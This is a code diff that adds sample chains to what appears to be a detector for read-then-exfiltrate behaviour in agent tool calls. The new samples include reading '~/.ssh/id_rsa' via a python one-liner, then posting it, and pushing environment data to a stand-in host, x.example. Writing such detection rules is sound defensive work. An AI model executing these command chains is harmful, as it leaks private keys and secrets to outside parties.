@@ -74,6 +74,21 @@ export const readThenSend: BuiltInChain = {
         }),
         post,
       ],
+      [
+        sample({
+          effects: ['exec'],
+          commands: [shell('python3', '-c', "print(open('/home/ana/.ssh/id_rsa').read())")],
+        }),
+        post,
+      ],
+      [
+        readEnv,
+        sample({
+          effects: ['exec', 'connect'],
+          hosts: ['x.example'],
+          commands: [shell('git', 'push', 'git@x.example:y')],
+        }),
+      ],
       [readEnv, sample({ effects: ['exec', 'connect'], commands: [shell('npm', 'publish')] })],
       [readEnv, sample({ effects: ['exec', 'connect'], commands: [shell('gh', 'gist', 'create')] })],
       [readEnv, sample({ tool: 'send_mail', labels: ['outside'] })],
@@ -82,6 +97,14 @@ export const readThenSend: BuiltInChain = {
       [readSource, post],
       [readSource, install, push, github],
       [readEnv, install],
+      [
+        readEnv,
+        sample({
+          effects: ['exec', 'connect'],
+          hosts: ['notes.txt'],
+          commands: [shell('git', 'add', 'notes.txt'), shell('git', 'push', 'origin', 'HEAD:main')],
+        }),
+      ],
       [readEnv, push],
       [sample({ effects: ['read'], paths: [{ text: 'app/.env.example' }] }), post],
       [sample({ effects: ['read'], paths: [{ text: '~/.ssh/id_rsa.pub' }] }), post],
